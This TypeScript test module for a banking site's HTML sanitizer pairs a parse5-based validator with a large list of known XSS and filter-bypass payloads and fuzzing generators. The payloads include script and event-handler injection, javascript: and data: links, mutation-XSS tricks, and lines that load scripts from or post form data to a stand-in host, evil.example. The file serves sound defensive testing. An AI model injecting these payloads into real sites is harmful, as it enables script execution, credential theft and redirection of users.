import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, html as markup, parse, parseFragment } from 'parse5';

type Node = DefaultTreeAdapterTypes.ChildNode;

/** Hosts that cleaned texts may link to in these tests. */
export const ourHosts: readonly string[] = ['bank.example', 'www.bank.example'];

const plainTags = (
  'p br hr b strong i em u s small sub sup span div a h1 h2 h3 h4 ul ol li dl dt dd blockquote pre code ' +
  'table caption thead tbody tfoot tr th td'
).split(' ');
const moreAttributes: Readonly<Record<string, readonly string[]>> = {
  a: ['href'],
  ol: ['start'],
  th: ['colspan', 'rowspan', 'scope'],
  td: ['colspan', 'rowspan'],
};

/** Returns everything in a text that must not be there, whichever parser reads it. */
export function errorsIn(text: string): readonly string[] {
  const page = parse(`<!doctype html><html><head></head><body>${text}</body></html>`);
  const trees = [parseFragment(text).childNodes, page.childNodes.flatMap((node) => bodyOf(node))];
  return trees.flatMap((nodes) => nodes.flatMap((node) => errorsOf(node)));
}

function bodyOf(node: Node): readonly Node[] {
  if (!('tagName' in node)) return [];
  return node.tagName === 'body' ? node.childNodes : node.childNodes.flatMap((child) => bodyOf(child));
}

function errorsOf(node: Node): readonly string[] {
  if ('value' in node) return [];
  if (!('tagName' in node)) return [node.nodeName];
  const { attrs, childNodes, namespaceURI, tagName } = node;
  const names = ['dir', 'lang', ...(moreAttributes[tagName] ?? [])];
  return [
    ...(plainTags.includes(tagName) && namespaceURI === markup.NS.HTML ? [] : [tagName]),
    ...attrs.filter(({ name }) => !names.includes(name)).map(({ name }) => `${tagName} ${name}`),
    ...attrs.filter(({ name, value }) => name === 'href' && !isOurs(value)).map(({ value }) => value),
    ...childNodes.flatMap((child) => errorsOf(child)),
  ];
}

/** Whether a link on a page of another site leads to one of our hosts. */
function isOurs(href: string): boolean {
  const url = URL.parse(href, 'https://elsewhere.example/page');
  return (
    url?.protocol === 'https:' && `${url.username}${url.password}` === '' && ourHosts.includes(url.hostname)
  );
}

/** Inputs that have bypassed other sanitizers, or might. */
export const hostile: readonly string[] = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<b><script></b><img src=x onerror=alert(1)></script>',
  // Handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)//',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x',
  '<div onload\u000c=alert(1)>x</div>',
  '<b onmouseover=`alert(1)`>x</b>',
  '<body onload=alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="https://bank.example/" onclick=alert(1)>x</a>',
  // Links
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;&#97;vascript&colon;alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="javascript://bank.example/%0aalert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="https://me:secret@bank.example/">x</a>',
  '<a href="https://bank.example.evil.example/">x</a>',
  '<a href="https://bank.example%2eevil.example/">x</a>',
  '<a href="https://bank.example\\@evil.example/">x</a>',
  '<a href="https:\\\\evil.example\\bank.example">x</a>',
  '<a href="https:bank.example">x</a>',
  '<a href="https:/bank.example">x</a>',
  '<a href="https://bank&#46;example&#64;evil.example/">x</a>',
  '<a xlink:href="javascript:alert(1)" href="javascript:alert(1)" href="https://bank.example/">x</a>',
  '<a href=https://bank.example/"onclick=alert(1)>x</a>',
  '<area href="javascript:alert(1)"><map name=x><area href=javascript:alert(1)></map>',
  '<a href="https://bank.example/" target=_blank ping="https://evil.example/" style="position:fixed">x</a>',
  // Frames, forms, pages
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="https://evil.example/"><embed src=x></object>',
  '<form action="https://evil.example/"><input name=pin><button formaction=javascript:alert(1)>x</button></form>',
  '<form><form><div></form><form id=x><input form=x onfocus=alert(1)>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<isindex action=javascript:alert(1) type=image>',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><script>alert(1)</script>',
  // Images and styles
  '<img srcset="https://evil.example/1x.png 1x">',
  '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/x.png"></picture>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<table background="https://evil.example/x.png"><td background=x>x</td></table>',
  '<p class="admin" id="login" slot=x is=x-y data-x=1 aria-label=x tabindex=1 contenteditable>x</p>',
  // Foreign content in HTML, and text that changes when it is parsed again
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>',
  '<svg><foreignObject><p><iframe srcdoc=x></p></foreignObject></svg>',
  '<svg></p><style><a title="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><table><mglyph><style><img title="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=alert(1)></style></annotation-xml>',
  '<math href="javascript:alert(1)">x</math>',
  '<p><svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
  '<template><script>alert(1)</script></template>',
  '<template><template><p onclick=x>x</template></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><?php echo 1 ?><!doctype x [<!entity y "z">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '<p title="<script>alert(1)</script>">x</p>',
  '<p lang="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" dir=\'"\'>x</p>',
  '<ol start="1 onclick=alert(1)"><li>x</ol>',
  '<td colspan="1&quot; onclick=&quot;alert(1)">x',
  // Tags that close one another
  '<h1><foo><h2>x',
  '<p><marquee><p>x',
  '<li><section><li>x',
  '<a href="https://bank.example/1"><table><tr><td><a href="https://bank.example/2">x',
  '<table><p>a<tr>b<td>c</p><table>d',
  '<pre>\n\nx</pre><pre>\n</pre>',
  'a&#13;b&#13;&#10;c&#0;d\u0000e&#xD800;f&#x80;g',
  '<p><object><p>x',
  '<b><p><i></b>x</i>',
  '<nobr><b><nobr>x<p>y',
  '<dd><address><dt>x<dd>y',
  '<b',
  '<',
  '</',
  '<!',
  '<?',
  '&',
  '&#',
  '<a href="',
  '</p',
  '<p =x>',
  '<p a=1 a=2 lang=de lang="\'">',
];

const someTags = [
  ...plainTags,
  ...(
    'script style svg math mtext mglyph foreignObject annotation-xml template title select option button form ' +
    'marquee object section font nobr center img input iframe noscript textarea xmp col colgroup body html head ' +
    'frameset address h5'
  ).split(' '),
];
const someAttributes = (
  '| onclick=x| href="https://bank.example/"| href=javascript:x| style=x| lang=de| dir="rtl| title="-->"|/| colspan=2|' +
  ' encoding="text/html"| title="</style><img src=x onerror=x>"'
).split('|');
const someText = [
  ...'x| |&|<|>|"|&lt;|&#13;|&#10;|&#0;|&nbsp;|&quot;|<!--|-->|--!>|<![CDATA[|]]>|<?x|</|&lt;script&gt;'.split(
    '|',
  ),
  "'",
  '\n',
  '\r',
  '\t',
  '\u0000',
  '\ud800',
  '<!doctype html>',
];
const anyTag = fc
  .tuple(fc.constantFrom(...someTags), fc.constantFrom(...someAttributes))
  .map(([tag, attribute]) => `<${tag}${attribute}>`);
const anyPiece = fc.oneof(
  { weight: 4, arbitrary: anyTag },
  { weight: 2, arbitrary: fc.constantFrom(...someTags).map((tag) => `</${tag}>`) },
  { weight: 2, arbitrary: fc.constantFrom(...someText) },
);

/** Malformed HTML, and plain text. */
export const anyHtml: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.array(anyPiece, { maxLength: 40 }).map((pieces) => pieces.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);
